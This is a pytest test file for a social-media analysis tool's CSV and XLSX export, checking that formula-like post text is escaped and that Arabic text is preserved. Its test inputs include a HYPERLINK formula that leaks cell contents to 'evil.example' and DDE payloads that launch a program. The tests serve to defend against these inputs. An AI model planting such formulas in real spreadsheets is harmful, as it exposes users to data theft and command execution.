"""`diplolens export`: spreadsheet files where a post can never become a formula, Arabic intact."""

import csv
import json
import shutil

import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import given
from hypothesis import strategies as st

from pipeline.cli import main
from pipeline.export import FORMULA_START, cell, export_tables, spreadsheet_safe

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.mark.parametrize("text, safe", [
    (HYPERLINK, "'" + HYPERLINK),
    ("+33 1 43 17 53 53", "'+33 1 43 17 53 53"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("Merci à nos soldats = héros", "Merci à nos soldats = héros"),
    ("", ""),
])
def test_formula_like_text_gets_a_leading_apostrophe(text, safe):
    assert spreadsheet_safe(text) == safe


@given(st.one_of(st.text(), st.lists(st.text()), st.dictionaries(st.text(), st.text())))
def test_no_text_cell_can_start_like_a_formula_and_plain_text_is_kept(value):
    written = cell(value)
    assert written is None or not written.startswith(FORMULA_START)
    if isinstance(value, str) and written is not None:
        assert written in (value, "'" + value)


@pytest.fixture(scope="module")
def injected_run(sample_output, tmp_path_factory):
    """The sample run's tables, with a spreadsheet formula in the text of a real post."""
    out = tmp_path_factory.mktemp("injected") / "out"
    shutil.copytree(sample_output, out)
    posts = pq.read_table(out / "posts.parquet")
    texts = posts["text"].to_pylist()
    texts[0] = HYPERLINK
    posts = posts.set_column(posts.schema.get_field_index("text"), posts.schema.field("text"), pa.array(texts))
    pq.write_table(posts, out / "posts.parquet")
    return out


def _read_csv(path):
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle))


def test_csv_export_escapes_formulas_keeps_arabic_and_writes_lists_as_text(injected_run, tmp_path):
    files = export_tables(injected_run, "csv", tmp_path)
    assert {f.name for f in files} >= {"posts.csv", "accounts.csv", "actors.csv", "index_sensitivity.csv"}
    assert (tmp_path / "posts.csv").read_bytes().startswith(b"\xef\xbb\xbf")  # BOM: Excel reads it as UTF-8
    rows = _read_csv(tmp_path / "posts.csv")
    posts = pd.read_parquet(injected_run / "posts.parquet")
    assert len(rows) == len(posts)
    assert rows[0]["text"] == "'" + HYPERLINK
    arabic = posts.index[posts["script"] == "Arab"]
    assert len(arabic) > 10
    assert all(rows[i]["text"] == posts.at[i, "text"] for i in arabic)  # unchanged, right-to-left and all
    canada = next(r for r in _read_csv(tmp_path / "actors.csv") if r["actor"] == "Canada")
    assert canada["languages"] == "en; fr"
    assert canada["topic_counts"].startswith("political: ")
    assert all(not row[column].startswith(("=", "+", "-", "@")) for row in rows for column in row)


def test_xlsx_export_holds_no_formula_and_keeps_arabic(injected_run, tmp_path):
    openpyxl = pytest.importorskip("openpyxl")
    [path] = export_tables(injected_run, "xlsx", tmp_path)
    workbook = openpyxl.load_workbook(path, read_only=True)
    assert {"posts", "accounts", "actors", "index_sensitivity", "quarantine"} <= set(workbook.sheetnames)
    posts = list(workbook["posts"].iter_rows(values_only=True))
    header = posts[0]
    text = header.index("text")
    assert posts[1][text] == "'" + HYPERLINK
    source = pd.read_parquet(injected_run / "posts.parquet")
    salman = source[source["account_handle"] == "KingSalman"]
    exported = {row[header.index("post_id")]: row[text] for row in posts[1:]}
    assert all(exported[post_id] == text for post_id, text in zip(salman["post_id"], salman["text"]))
    ranks = list(workbook["index_sensitivity"].iter_rows(values_only=True))
    assert isinstance(ranks[1][ranks[0].index("rank_change")], int)  # numbers stay numbers
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            assert all(c.data_type != "f" for c in row)


def test_exporting_a_folder_that_is_not_a_run_is_one_line_and_exit_2(tmp_path, capsys):
    (tmp_path / "manifest.json").write_text(json.dumps({"status": "running"}), "utf-8")
    assert main(["export", str(tmp_path)]) == 2
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and "does not describe a complete run" in err[0]
